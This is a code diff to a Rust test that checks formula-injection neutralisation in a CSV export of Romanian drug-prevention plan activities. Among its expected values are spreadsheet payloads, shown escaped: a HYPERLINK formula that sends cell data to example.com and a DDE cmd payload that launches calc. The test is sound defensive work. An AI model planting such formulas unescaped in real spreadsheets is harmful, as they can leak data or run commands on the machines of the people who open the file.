@@ -505,28 +505,34 @@ fn csv_cells_that_start_a_formula_are_neutralised() {
 
     let activities = site.read("public/date/activitati.csv");
     let mut reader = csv::Reader::from_reader(activities.trim_start_matches('\u{feff}').as_bytes());
+    let header = reader.headers().unwrap().clone();
     let row = reader.records().next().unwrap().unwrap();
-    let cells: Vec<&str> = row.iter().collect();
-    assert_eq!(
-        cells[1..16],
-        [
-            r#"'=HYPERLINK("http://example.com/?"&A1,"clic")"#,
-            "plan-droguri",
-            "Acțiune strategică I REDUCEREA CERERII DE DROGURI",
-            "'+40 de școli incluse în program",
-            "'-Dezvoltarea intervențiilor de prevenire",
-            "og-1-os1-m1",
-            "'@SUM(1+1)*cmd|' /C calc'!A0",
-            "'- ; - 2024",
-            "'-2022",
-            "'+anual",
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
+    let expected = [
+        ("plan", r#"'=HYPERLINK("http://example.com/?"&A1,"clic")"#),
+        ("tip_plan", "plan-droguri"),
+        ("grupare", "Acțiune strategică I REDUCEREA CERERII DE DROGURI"),
+        ("obiectiv_general_text", "'+40 de școli incluse în program"),
+        ("obiectiv_specific_text", "'-Dezvoltarea intervențiilor de prevenire"),
+        ("activitate_id", "og-1-os1-m1"),
+        ("activitate_text", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("indicatori", "'- ; - 2024"),
+        ("termen", "'-2022"),
+        // A year read from "-2022" is a number, not text: the number column has no apostrophe.
+        ("an_inceput", "2022"),
+        ("termen_evaluare", "'+anual"),
+        (
+            "responsabili",
             "Centrul Regional de Prevenire, Evaluare și Consiliere Antidrog Cluj ; Direcția de Sănătate Publică Cluj ; Autoritățile administrației publice locale",
-            "",
-            "'=1+1",
-            "sna/prevenire-universala",
-            "",
-        ]
-    );
+        ),
+        ("parteneri", ""),
+        ("finantare", "'=1+1"),
+        ("obiectiv_national", "sna/prevenire-universala"),
+        ("note", ""),
+    ];
+    for (name, value) in expected {
+        assert_eq!(cell(name), value, "{name}");
+    }
 
     let json: serde_json::Value = serde_json::from_str(&site.read("public/date/planuri.json")).unwrap();
     let plan = &json["plans"][0];
